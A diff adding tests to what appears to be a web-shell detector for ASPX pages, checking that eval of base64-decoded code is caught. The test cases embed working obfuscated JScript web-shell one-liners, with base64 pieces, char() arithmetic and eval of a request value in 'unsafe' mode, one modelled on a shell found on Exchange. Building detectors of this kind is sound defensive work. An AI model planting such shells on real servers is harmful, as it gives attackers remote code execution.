@@ -339,3 +339,44 @@ def test_tracing_across_files_is_bounded_and_says_so(tmp_path: Path, monkeypatch
     flagged = [p for p in ("app/a.aspx", "app/b.aspx") if findings_for(data, p)]
     assert len(flagged) == 1
     assert any("traced across files for the first 1" in w for w in data["coverage"]["warnings"])
+
+
+# --- requests of this session (x12_to_a2.md, x13_to_a2.md) -------------------------------------------
+
+_B64_CMD = "dmFyIHNhZmU9InVuc2FmZSI7ZXZhbChSZXF1ZXN0Lkl0ZW1bImsiXSwgc2FmZSk7"  # var safe="unsafe";eval(Request.Item["k"], safe);
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        # base64 of the code split in pieces, with char() arithmetic in decimal, octal and hex, inside
+        # GetEncoding(936).GetString (X12 1: the shape of a page captured on Exchange)
+        '<%@ Page Language="Jscript" %>\n<%eval(System.Text.Encoding.GetEncoding(936).GetString('
+        "System.Convert.FromBase64String('dmFyIHNh'+'ZmU9InVu'+char(0x18c/4)+'2FmZSI7ZXZhbChSZXF1ZXN0Lkl0ZW1bImsiXSwgc2FmZSk7')));%>",
+        '<%@ Page Language="Jscript" %>\n<%eval(System.Text.Encoding.UTF8.GetString('
+        f'System.Convert.FromBase64String("{_B64_CMD[:20]}" + "{_B64_CMD[20:]}")));%>',
+    ],
+)
+def test_eval_of_code_decoded_from_a_literal_is_read_as_that_code(page: str) -> None:
+    hits = behaviour.analyse(page.encode(), ".aspx").hits
+    sinks = {h["sink"] for h in hits}
+    assert {"eval-decoded", "eval"} <= sinks, sinks
+    assert next(h for h in hits if h["sink"] == "eval")["source"] == "request value"
+
+
+def test_decoded_text_that_is_shown_or_evaluated_apart_is_not_eval_decoded() -> None:
+    for page in (
+        '<%@ Page Language="JScript" %>\n<% Response.Write(System.Text.Encoding.UTF8.GetString('
+        'System.Convert.FromBase64String("SGVsbG8gd29ybGQ="))); %>',
+        '<%@ Page Language="JScript" %>\n<% var n = eval("2+3"); Response.Write(char(0101) + n); %>',
+        '<%@ Page Language="JScript" %>\n<% var n = eval("Math.max(1, 2)"); %>',  # nothing decoded
+    ):
+        assert behaviour.analyse(page.encode(), ".aspx").hits == []
+
+
+def test_eval_option_after_a_call() -> None:
+    page = (
+        '<%@ Page Language="JScript" %>\n<% var b="unsa", c="fe", d=b+c;\n'
+        'function fun() { return Request.Item["k"]; }\neval(fun(), d); %>'
+    )
+    assert "eval-unsafe" in {h["sink"] for h in behaviour.analyse(page.encode(), ".aspx").hits}
